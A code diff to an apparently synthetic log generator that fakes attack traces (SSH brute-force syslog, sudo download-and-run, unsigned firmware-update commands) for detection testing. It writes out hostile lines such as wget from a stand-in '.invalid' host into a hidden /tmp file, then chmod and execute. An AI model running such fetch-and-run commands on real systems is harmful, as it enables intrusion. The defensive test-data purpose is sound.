@@ -32,9 +32,11 @@ def _sudo(rng: Random, *commands: str) -> list[str]:
 def _ssh_brute_force(rng: Random) -> list[str]:
     host, ip = rng.choice(HOSTS), _attacker(rng)
     lines = []
-    for _ in range(rng.randrange(6, 13)):
+    for _ in range(rng.randrange(4, 8)):
         user = rng.choice(("root", "invalid user admin", "invalid user oracle", "invalid user pi", "invalid user test"))
         port = rng.randrange(30000, 60000)
+        if user.startswith("invalid"):
+            lines.append(syslog(38, host, f"sshd[{_pid(rng)}]", f"I{user[1:]} from {ip} port {port}"))
         lines.append(syslog(38, host, f"sshd[{_pid(rng)}]", f"Failed password for {user} from {ip} port {port} ssh2"))
     return lines
 
@@ -66,6 +68,8 @@ def _download_and_run(rng: Random) -> list[str]:
     name = _hexname(rng)
     url = f"http://{_hexname(rng)}.invalid/{name}"
     steps = f"/usr/bin/wget -q {url} -O /tmp/.{name}", f"/usr/bin/chmod +x /tmp/.{name}", f"/tmp/.{name} --daemon"
+    if rng.random() < 0.5:
+        return _sudo(rng, f"/bin/sh -c wget -q {url} -O /tmp/.{name} && chmod +x /tmp/.{name} && /tmp/.{name}")
     return _sudo(rng, *steps)
 
 
@@ -131,8 +135,8 @@ def _out_of_range(rng: Random) -> list[str]:
     for _ in range(rng.randrange(1, 4)):
         temperature = rng.choice((rng.uniform(140, 400), -rng.uniform(60, 200)))
         lines.append(
-            f'plant/hall1/press/{device}/telemetry {{"ts":{EPOCH},"seq":{rng.randrange(10**6)},"device":"{device}",'
-            f'"temp":{temperature:.1f},"vibration":{rng.uniform(9, 30):.2f},"rpm":{rng.randrange(4000, 9000)},'
+            f'plant/hall1/press/{device}/telemetry {{"ts":{EPOCH},"seq":{rng.randrange(10**6)},"device_id":"{device}",'
+            f'"temperature":{temperature:.1f},"vibration":{rng.uniform(9, 30):.2f},"rpm":{rng.randrange(4000, 9000)},'
             '"state":"run"}'
         )
     return lines
@@ -142,8 +146,8 @@ def _device_command(rng: Random) -> list[str]:
     device = f"meter-{rng.randrange(40):02}"
     url = f"http://{_hexname(rng)}.invalid/fw.bin"
     return [
-        f'plant/hall2/meter/{device}/command {{"ts":{EPOCH},"device":"{device}","command":"firmware_update",'
-        f'"url":"{url}","signature":null,"client":"{_attacker(rng)}"}}'
+        f'plant/hall2/meter/{device}/command {{"ts":{EPOCH},"device_id":"{device}","command":"firmware_update",'
+        f'"firmware_url":"{url}","signature":null,"client":"{_attacker(rng)}"}}'
     ]
 
 
